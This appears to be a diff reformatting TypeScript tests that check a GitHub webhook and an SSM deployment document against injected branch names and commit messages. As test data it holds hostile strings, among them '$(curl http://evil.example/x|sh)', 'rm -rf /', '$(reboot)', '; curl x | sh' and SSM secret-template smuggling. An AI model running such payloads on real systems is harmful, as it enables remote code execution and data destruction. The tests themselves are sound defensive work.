@@ -33,8 +33,14 @@ interface DocumentParameter {
   allowedPattern?: string;
   interpolationType?: string;
 }
-const documentText = readFileSync(join(__dirname, '..', '..', 'ssm-documents', 'release-systemd-service.yaml'), 'utf8');
-const document = parseYaml(documentText) as { parameters: Record<string, DocumentParameter>; mainSteps: { inputs: { runCommand: string[] } }[] };
+const documentText = readFileSync(
+  join(__dirname, '..', '..', 'ssm-documents', 'release-systemd-service.yaml'),
+  'utf8',
+);
+const document = parseYaml(documentText) as {
+  parameters: Record<string, DocumentParameter>;
+  mainSteps: { inputs: { runCommand: string[] } }[];
+};
 
 /** Characters a shell treats specially; none may appear in a value SSM passes to the script. */
 const SHELL_META = /[\s;|&$`'"<>(){}\\*?!~#[\]^%=,]/;
@@ -59,7 +65,14 @@ interface Driven {
   sendCommand: SendCommandCommandInput;
 }
 
-const ROUTES = validateRoutes([{ pipeline: 'microblog', repository: 'example-org/microblog', branch: 'main', stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog' }]);
+const ROUTES = validateRoutes([
+  {
+    pipeline: 'microblog',
+    repository: 'example-org/microblog',
+    branch: 'main',
+    stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog',
+  },
+]);
 
 /** Sends a signed push for `branch` through the webhook; returns the answer and what it started. */
 async function push(branch: string, message: string, commitSha: string) {
@@ -73,8 +86,18 @@ async function push(branch: string, message: string, commitSha: string) {
     },
   });
   const response = await handleWebhook(
-    { method: 'POST', path: '/webhooks/github', headers: normaliseHeaders(delivery.headers), body: Buffer.from(delivery.body) },
-    { routes: ROUTES, sfn: sfn.client(), logger: testLogger(), secret: { get: async () => SECRET, ageMs: () => 0 } },
+    {
+      method: 'POST',
+      path: '/webhooks/github',
+      headers: normaliseHeaders(delivery.headers),
+      body: Buffer.from(delivery.body),
+    },
+    {
+      routes: ROUTES,
+      sfn: sfn.client(),
+      logger: testLogger(),
+      secret: { get: async () => SECRET, ageMs: () => 0 },
+    },
   );
   return { response, executions: [...sfn.executions.values()] };
 }
@@ -85,14 +108,21 @@ async function push(branch: string, message: string, commitSha: string) {
  * so a hostile `branch` is written into the started input afterwards: the ASL and ssm-deploy must
  * ignore it even if a future rule let one through.
  */
-async function drive(branch: string, message: string, commitSha: string): Promise<Driven | { status: number; ignored: true }> {
+async function drive(
+  branch: string,
+  message: string,
+  commitSha: string,
+): Promise<Driven | { status: number; ignored: true }> {
   const { response, executions } = await push('main', message, commitSha);
   const [execution] = executions;
   if (!execution) return { status: response.statusCode, ignored: true };
   const input = { ...(JSON.parse(execution.input) as PipelineInput), branch, ref: `refs/heads/${branch}` };
   const run = await runRelease(settings, input, new SSMClient({ region: 'eu-west-1' }));
   const calls = ssmMock.commandCalls(SendCommandCommand);
-  if (calls.length !== 1) throw new Error(`expected one SendCommand, got ${calls.length} (execution ${run.status} ${run.error ?? ''} ${run.cause ?? ''})`);
+  if (calls.length !== 1)
+    throw new Error(
+      `expected one SendCommand, got ${calls.length} (execution ${run.status} ${run.error ?? ''} ${run.cause ?? ''})`,
+    );
   return { status: response.statusCode, input, run, sendCommand: calls[0]!.args[0].input };
 }
 
@@ -148,34 +178,75 @@ function expectSafe(driven: Driven, branch: string, message: string, commitSha: 
 
 describe('the SSM document reaches parameters only through environment variables', () => {
   test('every parameter SendCommand may set is ENV_VAR-interpolated with an allowedPattern', () => {
-    const sent = ['action', 'commitSha', 'artifactBucket', 'artifactKey', 'serviceName', 'appDirectory', 'healthUrl', 'pythonVersion'];
+    const sent = [
+      'action',
+      'commitSha',
+      'artifactBucket',
+      'artifactKey',
+      'serviceName',
+      'appDirectory',
+      'healthUrl',
+      'pythonVersion',
+    ];
     for (const name of sent) {
-      expect(document.parameters[name]).toMatchObject({ type: 'String', interpolationType: 'ENV_VAR', allowedPattern: expect.stringMatching(/^\^.*\$$/) });
+      expect(document.parameters[name]).toMatchObject({
+        type: 'String',
+        interpolationType: 'ENV_VAR',
+        allowedPattern: expect.stringMatching(/^\^.*\$$/),
+      });
     }
   });
 
   test('the shell text has no {{ }} interpolation at all; the only one in the file is the timeout number', () => {
     const shell = document.mainSteps.flatMap((step) => step.inputs.runCommand).join('\n');
     expect(shell).not.toMatch(/\{\{/);
-    const interpolations = [...documentText.replace(/^\s*#.*$/gm, '').matchAll(/\{\{\s*([^}\s]+)\s*\}\}/g)].map((m) => m[1]);
+    const interpolations = [
+      ...documentText.replace(/^\s*#.*$/gm, '').matchAll(/\{\{\s*([^}\s]+)\s*\}\}/g),
+    ].map((m) => m[1]);
     expect(interpolations).toEqual(['executionTimeout']);
     expect(document.parameters.executionTimeout?.allowedPattern).toBe('^[0-9]{2,4}$');
   });
 });
 
 describe('hostile branch names stop at the webhook', () => {
-  const branches = ['main$(reboot)', 'feat/`id`', 'a;b|c&d', "x'\"<>{a,b}", 'main;', 'main\nx', 'main ', '-main', 'release/$((1+1))'];
+  const branches = [
+    'main$(reboot)',
+    'feat/`id`',
+    'a;b|c&d',
+    'x\'"<>{a,b}',
+    'main;',
+    'main\nx',
+    'main ',
+    '-main',
+    'release/$((1+1))',
+  ];
 
   test.each(branches)('a signed push to %j starts nothing (202 ignored)', async (branch) => {
-    const { response, executions } = await push(branch, 'a normal message', '3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a');
+    const { response, executions } = await push(
+      branch,
+      'a normal message',
+      '3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a',
+    );
     expect(response.statusCode).toBe(202);
     expect(JSON.parse(response.body)).toMatchObject({ status: 'ignored' });
     expect(executions).toEqual([]);
   });
 
-  test.each(branches.filter((b) => SHELL_META.test(b)))('a route for %j is refused when the webhook reads its routes', (branch) => {
-    expect(() => validateRoutes([{ pipeline: 'microblog', repository: 'example-org/microblog', branch, stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog' }])).toThrow(/branch must be a branch name/);
-  });
+  test.each(branches.filter((b) => SHELL_META.test(b)))(
+    'a route for %j is refused when the webhook reads its routes',
+    (branch) => {
+      expect(() =>
+        validateRoutes([
+          {
+            pipeline: 'microblog',
+            repository: 'example-org/microblog',
+            branch,
+            stateMachineArn: 'arn:aws:states:eu-west-1:123456789012:stateMachine:deploy-microblog',
+          },
+        ]),
+      ).toThrow(/branch must be a branch name/);
+    },
+  );
 });
 
 describe('hostile branch names and commit messages, from push to SendCommand', () => {
@@ -183,7 +254,7 @@ describe('hostile branch names and commit messages, from push to SendCommand', (
     ['main$(reboot)', 'Fix "quotes" $(curl http://evil.example/x|sh) `id`; rm -rf / && echo pwned'],
     ['feat/`touch${IFS}/tmp/p`', "it's; DROP TABLE users; --\n\n$(whoami)"],
     ['a;b|c&d', '{{ commitSha }} {{ssm:/secret}} {{ resolve:secretsmanager:x }}'],
-    ["x'\"<>{a,b}", 'line1\nline2\r\n\u0000\u001b[31mred\u001b[0m $HOME ${PATH}'],
+    ['x\'"<>{a,b}', 'line1\nline2\r\n\u0000\u001b[31mred\u001b[0m $HOME ${PATH}'],
     ['release/$((1+1))', `${'$('.repeat(300)}a${')'.repeat(300)}`],
   ];
 
@@ -197,13 +268,22 @@ describe('hostile branch names and commit messages, from push to SendCommand', (
   test('property: any git-legal branch with metacharacters and any message', async () => {
     // Git refuses spaces, control characters and ~^:?*[\ in branch names; everything else is fair game.
     const branchChar = fc.constantFrom(...'abcXYZ019._/-$();|&`\'"<>{}!#%=,+@'.split(''));
-    const branch = fc.array(branchChar, { minLength: 1, maxLength: 40 }).map((cs) => cs.join('')).filter((b) => !/^[/.]|\.\.|\/\/|\/$|\.lock$|@\{|^@$/.test(b));
-    const message = fc.oneof(fc.string({ maxLength: 300 }), fc.string({ maxLength: 300, unit: 'grapheme' }), fc.constantFrom('$(reboot)', '`id`', '; curl x | sh', '{{ action }}'));
+    const branch = fc
+      .array(branchChar, { minLength: 1, maxLength: 40 })
+      .map((cs) => cs.join(''))
+      .filter((b) => !/^[/.]|\.\.|\/\/|\/$|\.lock$|@\{|^@$/.test(b));
+    const message = fc.oneof(
+      fc.string({ maxLength: 300 }),
+      fc.string({ maxLength: 300, unit: 'grapheme' }),
+      fc.constantFrom('$(reboot)', '`id`', '; curl x | sh', '{{ action }}'),
+    );
     const sha = fc.stringMatching(/^[0-9a-f]{40}$/);
     await fc.assert(
       fc.asyncProperty(branch, message, sha, async (b, m, s) => {
         ssmMock.reset();
-        ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: '0b6c7d5e-1f2a-4b3c-8d9e-0a1b2c3d4e5f' } });
+        ssmMock
+          .on(SendCommandCommand)
+          .resolves({ Command: { CommandId: '0b6c7d5e-1f2a-4b3c-8d9e-0a1b2c3d4e5f' } });
         const driven = await drive(b, m, s);
         // A [skip ci]-style marker or an empty message can legitimately stop the push at the webhook.
         if ('ignored' in driven) {
